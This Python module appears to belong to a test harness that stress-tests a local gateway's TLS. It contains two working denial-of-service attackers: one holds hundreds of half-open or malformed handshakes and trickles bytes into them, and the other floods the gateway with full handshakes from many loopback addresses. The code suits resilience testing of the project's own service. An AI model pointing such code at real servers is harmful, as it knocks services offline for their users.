"""Those who try to wear the TLS of the gateway out: each a handshake of its own kind."""

import asyncio
import contextlib
import random
import socket
import ssl
import time
from collections.abc import Callable

from ..pace import paced
from ..target import ENGINE_HOST

HOSTS = 20
ADDRESSES = 2000
HELD = 900
"""More than the gateway makes secure at once."""
OPENED_PER_S = 1500
AT_ONCE = 32
PATIENCE_S = 5.0

Found = tuple[int, list[str]]
Attacker = Callable[[int, float], Found]


def host_of(number: int) -> str:
    """One of many addresses of this machine."""
    place = number % ADDRESSES
    return f"127.67.{place % HOSTS}.{place // HOSTS + 1}"


def _context() -> ssl.SSLContext:
    """A client that believes every certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def client_hello() -> bytes:
    """How a handshake begins."""
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    begun = _context().wrap_bio(received, sent, server_hostname="gateway")
    with contextlib.suppress(ssl.SSLWantReadError):
        begun.do_handshake()
    return sent.read()


def half_handshakes(port: int, seconds: float) -> Found:
    """Handshakes of which nothing comes, a byte now and then, or the first message alone; each
    opened again where it was given up."""
    hello = client_hello()
    kinds = (b"", hello[:7], hello, b"GET / HTTP/1.1\r\n\r\n", hello[:3] + b"\xff\xff")
    lines: list[tuple[socket.socket, bytes]] = []
    sent = 0
    for number in paced(OPENED_PER_S, seconds):
        if len(lines) >= HELD and number % 2:
            line, kind = random.choice(lines)
            with contextlib.suppress(OSError):
                line.send(hello[7:8] if kind == hello[:7] else kind[-1:])
            continue
        line = socket.socket()
        line.bind((host_of(number), 0))
        line.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            line.connect((ENGINE_HOST, port))
        kind = kinds[number % len(kinds)]
        with contextlib.suppress(OSError):
            line.send(kind)
            sent += 1
        lines.append((line, kind))
        if len(lines) > HELD:
            lines.pop(0)[0].close()
    for line, _kind in lines:
        line.close()
    return sent, []


def many_handshakes(port: int, seconds: float) -> Found:
    """Whole handshakes, one after the other, of many addresses: each costs the gateway a
    signature, and asks for nothing."""
    return asyncio.run(_shake_hands(port, seconds))


async def _shake_hands(port: int, seconds: float) -> Found:
    until, sent, context = time.monotonic() + seconds, 0, _context()

    async def one(first: int) -> None:
        nonlocal sent
        number = first
        while time.monotonic() < until:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(PATIENCE_S):
                    _reader, writer = await asyncio.open_connection(
                        ENGINE_HOST,
                        port,
                        ssl=context,
                        server_hostname="gateway",
                        local_addr=(host_of(number), 0),
                    )
                writer.transport.abort()
                sent += 1
            number += AT_ONCE

    await asyncio.gather(*map(one, range(AT_ONCE)))
    return sent, []


TLS_ATTACKERS: dict[str, Attacker] = {
    function.__name__: function for function in (half_handshakes, many_handshakes)
}
